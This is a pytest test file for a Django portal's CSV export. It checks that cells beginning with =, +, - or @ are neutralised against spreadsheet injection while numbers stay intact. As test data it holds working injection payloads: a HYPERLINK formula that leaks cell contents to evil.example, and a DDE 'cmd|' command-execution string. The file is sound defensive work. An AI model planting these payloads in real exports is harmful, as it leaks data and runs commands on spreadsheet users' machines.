"""Issue 14, finding 7: CSV exports passed ``=``/``@`` formulas through (spreadsheet
injection). Every CSV the portal writes now neutralises them (web/csv_cells.py, after
OWASP's guidance) and leaves numbers, negative ones included, as they are."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from sechelp import make_user

from frisat.web.csv_cells import cell, row
from frisat.workflow import services

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


@pytest.mark.parametrize(("value", "written"), [
    (FORMULA, "'" + FORMULA), ("+1+1", "'+1+1"), ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3", "-3"), ("-2,5", "-2,5"), ("+45", "+45"), (-3, -3), (2.5, 2.5),
    ("Helsingør", "Helsingør"), ("", ""), (None, None), ("a=b", "a=b"),
])
def test_a_cell(value, written):
    assert cell(value) == written


def test_a_row():
    assert row(["=1", 217, "-7"]) == ["'=1", 217, "-7"]


def _load_decision_titled(title: str) -> None:
    ministry = make_user("sec-min", "ministry")
    services.load_as(ministry, {"format": "frisat-bundle/1", "decisions": [{
        "id": "217-2025-9csv", "municipality": 217, "regime": "velfaerdsaftale-dagtilbud",
        "title": title, "example": True, "decided_by": {"body": "council"},
        "effective_from": "2025-03-01", "published_on": "2025-02-01",
        "source_url": "https://example.org/eksempel/217-2025-9csv",
        "targets": [{"citation": "dagtilbudsloven § 14, stk. 1", "note": "@SUM(A1)"}]}]})


def _cells(body: bytes) -> list[str]:
    return [c for r in csv.reader(io.StringIO(body.decode())) for c in r]


@pytest.mark.parametrize(("path", "neutralised"), [
    ("/beslutninger", "'" + FORMULA), ("/kommune/217/oversigt", "'" + FORMULA),
    ("/en/beslutninger", "'" + FORMULA), ("/beslutning/217-2025-9csv", "'@SUM(A1)")])
def test_portal_csv_has_no_live_formula(path, neutralised):
    _load_decision_titled(FORMULA)
    r = Client().get(path + "?format=csv&date=2025-06-01")
    assert r.status_code == 200
    cells = _cells(r.content)
    assert neutralised in cells
    assert not [c for c in cells if c.startswith(("=", "@"))]


def test_the_staff_csv_has_no_live_formula():
    _load_decision_titled(FORMULA)
    c = Client()
    c.force_login(make_user("sec-min2", "ministry"))
    r = c.get("/forvaltning/beslutninger?format=csv")
    cells = _cells(r.content)
    assert "'" + FORMULA in cells
    assert not [x for x in cells if x.startswith(("=", "@"))]
